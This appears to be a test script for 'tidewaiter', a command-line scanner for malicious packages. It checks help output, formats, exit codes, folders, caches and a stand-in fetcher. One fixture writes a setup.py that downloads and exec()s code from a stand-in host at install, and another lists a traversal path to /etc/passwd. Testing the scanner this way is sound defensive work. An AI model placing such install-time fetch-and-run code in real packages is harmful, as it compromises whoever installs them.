#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The program as its users call it: verbs, options, formats, exit codes, folders, installations, bad input."""
import argparse
import base64
import hashlib
import io
import json
import os
import pty
import select
import shutil
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
from pathlib import Path

passed = failed = 0
LEVELS = ["clear", "notable", "suspicious", "malicious", "unreviewable"]


def check(ok, what, *more):
    global passed, failed
    passed, failed = passed + bool(ok), failed + (not ok)
    if not ok:
        print("FAILED", what, *[repr(m)[:600] for m in more])


class Program:
    def __init__(self, path, tmp):
        self.path, self.tmp = path, tmp
        self.env = {"PATH": os.environ["PATH"], "HOME": str(tmp / "home"), "XDG_CACHE_HOME": str(tmp / "cache")}

    def __call__(self, *args, stdin=b"", env=None):
        r = subprocess.run([self.path, *map(os.fsencode, map(os.fspath, args))], input=stdin, capture_output=True, timeout=300,
                           env=self.env | (env or {}), cwd=self.tmp)
        return r.returncode, r.stdout.decode("utf-8", "surrogateescape"), r.stderr.decode("utf-8", "surrogateescape")

    def reports(self, *args, **kw):
        code, out, err = self("scan", "--format", "jsonl", "--fail-on", "never", *args, **kw)
        return [json.loads(line) for line in out.splitlines()], code, err


def wheel(path, name="calm", files=None):
    info = f"{name}-1.0.dist-info"
    files = dict(files or {f"{name}/__init__.py": "VALUE = 1\n"})
    files[f"{info}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"
    files[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    hashes = {n: base64.urlsafe_b64encode(hashlib.sha256(t.encode()).digest()).rstrip(b"=").decode() for n, t in files.items()}
    record = "".join(f"{n},sha256={hashes[n]},{len(t)}\n" for n, t in files.items()) + f"{info}/RECORD,,\n"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, text in (files | {f"{info}/RECORD": record}).items():
            z.writestr(n, text)
    return path


def verbs(tw):
    code, out, _ = tw()
    check(code == 0 and "scan" in out and "members" not in out and "usage" in out and "--all" in out, "no arguments print the first verbs", out)
    check(sum(line.startswith("  ") and not line.startswith("  tidewaiter") for line in out.splitlines()) == 5, "five of them", out)
    code, every, _ = tw("help", "--all")
    names = [line.split()[0] for line in every.splitlines() if line.startswith("  ") and not line.startswith("  tidewaiter")]
    check(code == 0 and {"scan", "members", "mutate", "facts", "help"} <= set(names), "help --all prints all", every)
    for name in names:
        code, text, _ = tw(name, "--help")
        code, page, _ = tw("help", "--man", name)
        requests = {line.split()[0] for line in page.splitlines() if line[:1] in (".", "'")}
        check(code == 0 and requests <= {".TH", ".SH", ".TP", ".B", ".nf", ".fi"} and page.startswith(f'.TH "tidewaiter\\-{name}" 1'), f"{name}: a manual page", page[:200], requests)
        said = page.replace("\\-", "-").replace("\\e", "\\").replace("\\&", "")
        check(all(line.strip() in said for line in text.split("\nExamples:\n")[1].splitlines()), f"{name}: the manual says what --help does", page[-300:])
        check(code == 0 and f"\nExamples:\n  tidewaiter {name}" in text, f"{name} --help has an example", text)
    check(tw("--help")[1] == out and tw("help")[1] == out, "--help and help are the same")
    code, text, _ = tw("scan", "--help")
    check(code == 0 and "--fail-on" in text and "Exit status" in text and "tidewaiter scan dist/" in text, "scan --help teaches")
    check(tw("help", "scan")[1] == text, "help scan")
    check("hash-seed" not in text, "options for tests are not advertised")
    check(all(len(line) <= 80 for line in (out + text).splitlines()), "help fits 80 columns",
          [line for line in (out + text).splitlines() if len(line) > 80])
    check(tw("help", "--man")[1].startswith('.TH "tidewaiter" 1'), "the manual page of the program")
    script = tw("help", "--bash")[1] + "\nCOMP_WORDS=(tidewaiter scan --fo); COMP_CWORD=2; _tidewaiter; echo ${COMPREPLY[@]}; COMP_WORDS=(tidewaiter un); COMP_CWORD=1; _tidewaiter; echo ${COMPREPLY[@]}\n"
    r = subprocess.run(["bash", "--norc"], input=script, capture_output=True, text=True, timeout=30)
    check(r.stdout.split() == ["--format", "unwrap"] and not r.stderr, "bash completes", r.stdout, r.stderr)
    code, out, _ = tw("--version")
    check(code == 0 and out.startswith("tidewaiter "), "--version")
    for args, hint in [(["scna", "x"], "did you mean scan"), (["scan", "--job", "3", "x"], "did you mean --jobs"),
                       (["scan", "--formt", "json", "x"], "did you mean --format"), (["scan", "-x", "y"], "unknown option -x"),
                       (["scan"], "nothing to review"), (["scan", "--format", "xml", "x"], "not a format"),
                       (["scan", "--jobs", "0", "x"], "--jobs 0"), (["scan", "--jobs"], "needs a value"),
                       (["scan", "--jobs", "many", "x"], "--jobs many"), (["scan", "--fail-on", "high", "x"], "not a level"),
                       (["scan", "--limit", "nothing=3", "x"], "no limit"), (["scan", "--quiet=yes", "x"], "takes no value"),
                       (["scan", "--from-file", "absent.txt"], "absent.txt"), (["help", "nothing"], "no verb")]:
        code, out, err = tw(*args)
        check(code == 2 and not out and hint in err, f"unusable: {args}", code, out, err)


def formats(tw, tmp):
    good, bad = wheel(tmp / "calm-1.0-py3-none-any.whl"), tmp / "absent.whl"
    code, out, err = tw("scan", good)
    check(code == 0 and out.startswith("clear ") and "Nothing found by tidewaiter" in out, "text", out, err)
    check("safe" not in out and "\033" not in out, "no promise, no colour in a pipe", out)
    code, out, _ = tw("scan", "--format", "json", good)
    check(code == 0 and json.loads(out)["verdict"] == "clear", "json of one artifact is its report", out)
    code, out, _ = tw("scan", "--format", "json", good, bad, good)
    check([r["verdict"] for r in json.loads(out)] == ["clear", "unreviewable", "clear"], "json of several is an array", out)
    got, code, err = tw.reports(good, bad, good)
    check(code == 2, "an artifact that cannot be opened: exit 2", code)
    check(f"{bad}: No such file" in err, "and a clear message on stderr", err)
    check([(r["index"], r["artifact"]) for r in got] == [(0, str(good)), (1, str(bad)), (2, str(good))], "jsonl in input order")
    check(got[1]["sha256"] is None and got[1]["errors"][0]["code"] == "not-found" and got[1]["verdict"] == "unreviewable",
          "the unreadable one has its object", got[1])
    want = {"schema", "artifact", "sha256", "purl", "verdict", "score", "kind", "behaviours", "findings", "coverage", "complete", "stats"}
    check(all(want <= set(r) for r in got), "keys that every report has")
    code, text, _ = tw("scan", "--limit", "member_bytes=100000", "--format", "jsonl", good)
    check(json.loads(text)["versions"]["limits"] != got[0]["versions"]["limits"], "limits are part of the verdict key")


def lists(tw, tmp):
    names = [wheel(tmp / f"p{i}-1.0-py3-none-any.whl", f"p{i}") for i in range(9)]
    (tmp / "list.txt").write_text("\n".join(map(str, names[3:])) + "\n\n")
    got, code, _ = tw.reports("--jobs", "3", *names[:3], "--from-file", "list.txt")
    check([r["artifact"] for r in got] == list(map(str, names)) and code == 0, "arguments, then the list")
    got, code, _ = tw.reports("--from-file", "-", stdin="\r\n".join(map(str, names)).encode())
    check([r["artifact"] for r in got] == list(map(str, names)) and code == 0, "list from standard input")
    got, code, _ = tw.reports("--from-file", "-", stdin=b"")
    check(got == [] and code == 0, "an empty list is no error", got, code)
    odd = wheel(tmp / "name with spaces \xe9.whl")
    os.rename(odd, os.fsencode(tmp) + b"/latin-\xe9.whl")
    got, code, _ = tw.reports("--", os.fsdecode(os.fsencode(tmp) + b"/latin-\xe9.whl"))
    check(code == 0 and got[0]["artifact"].endswith("latin-\ufffd.whl") and got[0]["verdict"] == "clear", "a name that is not UTF-8", got)
    (tmp / "-dash.py").write_text("x = 1\n")
    got, code, _ = tw.reports("--", "-dash.py")
    check(code == 0 and got[0]["artifact"] == "-dash.py", "-- ends the options")


def bad_input(tw, tmp):
    good = wheel(tmp / "fine-1.0-py3-none-any.whl", "fine")
    cases = {"empty.whl": b"", "noise.whl": bytes(i * 37 % 256 for i in range(5000)), "half.whl": good.read_bytes()[:200],
             "half.tar.gz": b"\x1f\x8b\x08\0" + b"\0" * 30}
    for n, data in cases.items():
        (tmp / n).write_bytes(data)
    got, code, _ = tw.reports(*[tmp / n for n in cases], good)
    check(code == 0 and len(got) == len(cases) + 1, "damaged artifacts are reviewed, not errors", code)
    check(all(r["findings"] or r["verdict"] == "unreviewable" for r in got[1:-1]), "and say what is damaged",
          [(r["artifact"], r["findings"]) for r in got])
    check(got[-1]["verdict"] == "clear", "the other artifact goes on")
    os.mkfifo(tmp / "fifo")
    (tmp / "loop").symlink_to("loop")
    got, code, _ = tw.reports(tmp / "fifo", tmp / "loop", "/dev/zero", good)
    check(code == 2 and [r["verdict"] for r in got] == ["unreviewable"] * 3 + ["clear"], "FIFO, link loop and device do not block", got)
    check([r["errors"][0]["code"] for r in got[:3]] == ["unsupported", "denied", "unsupported"], "and each has its reason")


def levels(tw, tmp):
    evil = tmp / "evil-1.0.tar.gz"
    files = {"evil-1.0/setup.py": "import os, urllib.request\nfrom setuptools import setup\n"
                                  "exec(urllib.request.urlopen('http://203.0.113.9/stage').read())\nsetup(name='evil', version='1.0')\n",
             "evil-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"}
    with tarfile.open(evil, "w:gz") as t:
        for n, text in files.items():
            info = tarfile.TarInfo(n)
            info.size = len(text)
            t.addfile(info, io.BytesIO(text.encode()))
    got, _, _ = tw.reports(evil)
    level = got[0]["verdict"]
    check(LEVELS.index(level) >= 2, "code from the network, run at install", level)
    if level not in ("suspicious", "malicious"):
        return
    check(tw("scan", evil)[0] == 1, "default --fail-on: exit 1")
    check(tw("scan", "--fail-on", "never", evil)[0] == 0, "--fail-on never: exit 0")
    check(tw("scan", "--fail-on", level, evil)[0] == 1, "--fail-on the level itself: exit 1")
    check(tw("scan", "--fail-on", "malicious", evil)[0] == (level == "malicious"), "--fail-on malicious")
    check(tw("scan", evil, "absent")[0] == 2, "2 wins over 1")
    code, out, _ = tw("scan", evil, wheel(tmp / "mild-1.0-py3-none-any.whl", "mild"))
    check(level.upper() in out and "setup.py:3" in out and "at install" in out and "2 artifacts:" in out, "evidence on the terminal", out)
    check(all(len(line) <= 80 for line in out.splitlines()), "80 columns", [line for line in out.splitlines() if len(line) > 80])


def folders(tw, tmp):
    site = tmp / "venv/lib/python3.11/site-packages"
    for name in ("alpha", "beta"):
        (site / name).mkdir(parents=True)
        (site / name / "__init__.py").write_text(f"NAME = {name!r}\n")
        (site / f"{name}-1.0.dist-info").mkdir()
        (site / f"{name}-1.0.dist-info/METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
        (site / f"{name}-1.0.dist-info/RECORD").write_text(f"{name}/__init__.py,,\n\"{name}-1.0.dist-info/METADATA\",,\n"
                                                           f"{name}-1.0.dist-info/RECORD,,\n../../../bin/{name},,\n../../../../../etc/passwd,,\n")
    (site / "gamma.egg-info").mkdir()
    (site / "gamma.egg-info/PKG-INFO").write_text("Metadata-Version: 2.1\nName: gamma\nVersion: 2.0\n")
    (site / "gamma.egg-info/top_level.txt").write_text("gamma\n")
    (site / "gamma.py").write_text("x = 1\n")
    (site / "stray.pth").write_text("import os\n")
    (tmp / "venv/pyvenv.cfg").write_text("home = /usr/bin\n")
    for path in (site, tmp / "venv"):
        got, code, _ = tw.reports(path)
        names = [os.path.basename(r["artifact"]) for r in got]
        check(names == ["alpha-1.0.dist-info", "beta-1.0.dist-info", "gamma.egg-info", "site-packages (files of no distribution)"],
              f"each distribution of {path.name} as itself, strays too", names)
        check([r["subject"]["members"] > 0 for r in got] == [True] * 4 and code == 0, "all of them are read")
    check(got[0]["purl"] == "pkg:pypi/alpha@1.0", "with its identity", got[0]["purl"])
    modules = tmp / "app/node_modules"
    for name in ("left", "@scope/right", "left/node_modules/inner", ".pnpm/far@1.0.0/node_modules/far"):
        (modules / name).mkdir(parents=True)
        (modules / name / "package.json").write_text(json.dumps({"name": name.split("node_modules/")[-1], "version": "1.0.0"}))
    (modules / "far").symlink_to(".pnpm/far@1.0.0/node_modules/far")
    (tmp / "app/package.json").write_text('{"name":"app","version":"0.0.1"}')
    got, code, _ = tw.reports(modules)
    names = sorted(r["artifact"].split("app/node_modules/")[-1] for r in got)
    check(names == [".pnpm/far@1.0.0/node_modules/far", "@scope/right", "left", "left/node_modules/inner"], "each npm package as itself", names)
    check(all(r["subject"]["members"] == 1 for r in got), "nested packages are not counted twice",
          [(r["artifact"], r["subject"]) for r in got])
    got, _, _ = tw.reports(tmp / "app")
    check(len(got) == 5 and got[0]["artifact"] == str(tmp / "app"), "a project: itself, then its node_modules", [r["artifact"] for r in got])
    a, b = tw.reports(site)[0], tw.reports(site)[0]
    check(a == b, "a folder gives the same reports twice")
    (tmp / "dist").mkdir()
    for name in ("one", "two"):
        wheel(tmp / f"dist/{name}-1.0-py3-none-any.whl", name)
    got, _, _ = tw.reports(tmp / "dist")
    check([r["purl"] for r in got] == ["pkg:pypi/one@1.0", "pkg:pypi/two@1.0"], "a folder of archives: each as itself", got)
    (tmp / "dist/notes.txt").write_text("x")
    check(len(tw.reports(tmp / "dist")[0]) == 1, "with anything else in it: one tree")
    (tmp / "void").mkdir()
    got, code, _ = tw.reports(tmp / "void")
    check(code == 0 and len(got) == 1, "an empty folder", got)


def terminal(tw, tmp):
    """Colour and progress only on a terminal, and NO_COLOR is honoured."""
    good = wheel(tmp / "tty-1.0-py3-none-any.whl", "tty")

    def on_tty(env):
        master, slave = pty.openpty()
        p = subprocess.Popen([tw.path, "scan", str(good), str(tmp / "absent")], stdout=slave, stderr=slave, stdin=slave, env=tw.env | env)
        os.close(slave)
        out = b""
        while select.select([master], [], [], 60)[0]:
            try:
                data = os.read(master, 65536)
            except OSError:
                break
            if not data:
                break
            out += data
        p.wait(60)
        os.close(master)
        return out
    check(b"\033[32mclear\033[0m" in on_tty({"TERM": "xterm"}), "colour on a terminal")
    check(b"\033[32m" not in on_tty({"TERM": "xterm", "NO_COLOR": "1"}), "NO_COLOR")
    check(b"\033[32m" not in on_tty({"TERM": "dumb"}), "TERM=dumb")


def caches(tw, tmp):
    good = wheel(tmp / "kept-1.0-py3-none-any.whl", "kept")
    first = tw("scan", "--format", "json", "--cache", tmp / "c1", good)[1]
    for _ in range(4):  # one record in a hundred is made anew, to compare
        code, out, err = tw("scan", "--format", "json", "--stats", "--records-only", "--cache", tmp / "c1", good)
        if " 0 withheld" in err:
            break
    check(out == first and " from cache" in err and "0 from cache" not in err, "records come from the cache", err)
    for n in range(4):  # nor is one report in a hundred looked up
        mine = wheel(tmp / f"looked{n}-1.0-py3-none-any.whl", f"looked{n}")
        tw("scan", "--cache", tmp / "c1", mine)
        if "reports: 1 looked up" in tw("scan", "--stats", "--cache", tmp / "c1", mine)[2]:
            break
    (tmp / "elsewhere").mkdir()
    for path, want in ((mine, 1), (shutil.copy(mine, tmp / "elsewhere"), 1), (shutil.copy(mine, tmp / "renamed-1.0-py3-none-any.whl"), 0)):
        code, out, err = tw("scan", "--format", "json", "--stats", "--cache", tmp / "c1", path)
        check(f"reports: {want} looked up" in err and out == tw("scan", "--format", "json", "--no-cache", path)[1],
              "the same bytes under the same file name are a look-up, addressed anew", path, err)
    code, out, err = tw("scan", "--format", "json", "--stats", "--limit", "findings=77", "--cache", tmp / "c1", mine)
    check("reports: 0 looked up" in err, "other limits are another report", err)
    check((tmp / "c1/records.db").stat().st_mode & 0o077 == 0 and (tmp / "c1").stat().st_mode & 0o077 == 0, "the cache is private")
    tw("scan", "--no-cache", good, env={"XDG_CACHE_HOME": str(tmp / "never")})
    check(not (tmp / "never").exists(), "--no-cache makes none")
    (tmp / "c1/records.db").write_bytes(b"no database" * 500)
    for leftover in (tmp / "c1").glob("records.db-*"):
        leftover.unlink()
    code, out, err = tw("scan", "--format", "json", "--cache", tmp / "c1", good)
    check(code == 0 and out == first and "cache is not used" in err, "a damaged cache is skipped and named", code, err)
    code, out, err = tw("scan", "--format", "json", "--cache", "/proc/nowhere", good)
    check(code == 0 and out == first and "cache is not used" in err, "an impossible cache too", code, err)
    check(tw("scan", "--quiet", "--cache", "/proc/nowhere", good)[2] == "", "--quiet")
    code, out, err = tw("scan", "--stats", good)
    check("seccomp=yes" in err and "confinement:" in err and "peak" in err, "--stats names the layers of confinement", err)


def names(tw):
    """Without the fetching program, or with a name it does not know, the others go on."""
    got, code, err = tw.reports("pypi:no such name", "npm:../x")
    check(code == 2 and [r["verdict"] for r in got] == ["unreviewable"] * 2, "names that cannot be fetched", got, err)
    check(all(r["errors"][0]["code"] == "fetch-failed" for r in got), "and why")


FETCHER = """#!/usr/bin/python3
import json, os, sys
into, spec = sys.argv[sys.argv.index('--into') + 1], sys.argv[-1]
kind = spec.partition(':')[2]
if kind == 'absent':
    sys.exit('tidewaiter-net: no such package: absent')
if kind == 'garbage':
    print('{"spec":')
    sys.exit(0)
if kind == 'crash':
    os.abort()
import hashlib
for i in range(2 if kind == 'both' else 1):
    path = f'{into}/{kind}{i}.py'
    open(path, 'w').write(f'x = {i}\\n')
    sha = hashlib.sha256(open(path, 'rb').read()).hexdigest()
    print(json.dumps({'spec': spec, 'purl': 'pkg:pypi/x@1', 'file_name': f'{kind}{i}.py', 'url': 'http://127.0.0.1/x',
                      'sha256': '0' * 64 if kind == 'swapped' else sha, 'size': 6, 'path': path}), flush=True)
if kind == 'half':
    sys.exit('tidewaiter-net: the index went away')
if kind == 'note':
    print('tidewaiter-net: no hash', file=sys.stderr)
"""


def fetching(tw, tmp):
    """With a stand-in for the fetching program: its answers, its failures, and the folder that must not stay."""
    copy = tmp / "tidewaiter"
    shutil.copy(tw.path, copy)
    (tmp / "tidewaiter-net").write_text(FETCHER)
    (tmp / "tidewaiter-net").chmod(0o755)
    (tmp / "tmp").mkdir()
    mine = Program(str(copy), tmp)
    mine.env = tw.env | {"TMPDIR": str(tmp / "tmp")}
    got, code, err = mine.reports("pypi:good", "npm:both", "pypi:note")
    check(code == 0 and [r["artifact"] for r in got] == ["pypi:good", "npm:both both0.py", "npm:both both1.py", "pypi:note"], "fetched names", got, err)
    check(all(r["purl"] == "pkg:pypi/x@1" and r["verdict"] == "clear" for r in got), "with the identity that the index gave", got)
    check("no hash" in err, "notes of the fetcher are passed on", err)
    got, code, err = mine.reports("pypi:absent", "pypi:garbage", "pypi:crash", "pypi:swapped", "pypi:half", "pypi:good")
    says = [(r["verdict"], *[(e["code"], e["says"]) for e in r["errors"]]) for r in got]
    check(code == 2 and [s[0] for s in says] == ["unreviewable"] * 4 + ["clear", "unreviewable", "clear"], "failures of the fetcher", says)
    check(says[0][1] == ("fetch-failed", "no such package: absent"), "its reason is the report's", says[0])
    check(says[3][1][0] == "hash-mismatch", "a file that is not what the index promised", says[3])
    check(says[5][1] == ("fetch-failed", "the index went away"), "half an answer is not taken for a whole one", says[5])
    check(not list((tmp / "tmp").iterdir()), "nothing stays behind", list((tmp / "tmp").iterdir()))
    p = subprocess.Popen([str(copy), "scan", "pypi:good", "--from-file", "-"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, env=mine.env)
    for _ in range(200):
        if list((tmp / "tmp").glob("*/*/*")):
            break
        time.sleep(0.02)
    check(list((tmp / "tmp").glob("*/*/*")), "while it runs the files are there")
    p.kill()
    p.wait()
    for _ in range(200):
        if not list((tmp / "tmp").iterdir()):
            break
        time.sleep(0.02)
    check(not list((tmp / "tmp").iterdir()), "nothing stays behind a killed program either")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--tidewaiter", default="build/tidewaiter")
    args = ap.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        tw = Program(str(Path(args.tidewaiter).resolve()), tmp)
        verbs(tw)
        for part in (formats, lists, bad_input, levels, folders, terminal, caches, fetching):
            (tmp / part.__name__).mkdir()
            tw.tmp = tmp / part.__name__
            part(tw, tw.tmp)
        names(tw)
    print(f"{passed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
